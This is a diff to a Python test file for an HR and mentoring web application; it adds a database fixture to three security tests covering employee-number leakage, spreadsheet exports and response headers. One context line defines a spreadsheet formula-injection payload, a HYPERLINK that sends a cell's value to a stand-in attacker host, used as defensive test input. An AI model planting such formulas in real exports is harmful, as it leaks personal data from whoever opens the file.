@@ -126,6 +126,7 @@ NUMBER = re.compile(r"(?<!\d)\d{8}[ .%20-]?\d{6}[ .%20-]?[12][ .%20-]?\d{3}(?!\d
 LINK = re.compile(r'\b(?:href|action|src|formaction|hx-[a-z]+|data-[a-z-]*url)="([^"]*)"')
 
 
+@pytest.mark.usefixtures("on_one_database")
 def test_no_address_and_no_file_name_holds_an_employee_number(app, world):
     """Addresses end in histories, proxies and shoulders; a NIP carries a birth date."""
     wrong = []
@@ -143,6 +144,7 @@ def test_no_address_and_no_file_name_holds_an_employee_number(app, world):
 EVIL = '=HYPERLINK("http://jahat.example?"&A1,"klik")'
 
 
+@pytest.mark.usefixtures("on_one_database")
 def test_exports_hold_no_formulas_and_no_links(app, session, world):
     """Somebody's name, unit or note begins with an equals sign; HR opens the export in Excel."""
     for side in (world.ours, world.theirs):
@@ -345,6 +347,7 @@ def test_somebody_who_writes_without_end_fills_no_page(app, session, world):
     assert mentor.send(f"/mentoring/{world.ours.rows['pairing']}/sesi", book).status_code == 422
 
 
+@pytest.mark.usefixtures("on_one_database")
 def test_every_answer_of_every_role_keeps_its_guards(app, world):
     """A forgotten view without headers is the one that gets framed, sniffed or kept by a proxy."""
     for role in ROLES:
